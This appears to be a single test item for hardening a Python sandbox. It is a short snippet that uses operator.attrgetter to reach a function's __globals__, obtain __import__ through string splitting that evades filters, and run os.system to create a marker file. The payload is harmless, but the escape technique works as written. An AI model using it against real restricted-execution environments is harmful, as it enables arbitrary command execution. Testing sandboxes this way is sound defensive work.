# escape: operator.attrgetter reads a dunder attribute natively
# effect: marker
import operator
def probe():
    pass
g = operator.attrgetter("__globals__")(probe)
b = g["__builtins__"]
imp = b["__import__"] if isinstance(b, dict) else getattr(b, "__imp" + "ort__")
imp("os").system("touch {marker}")
return "done"
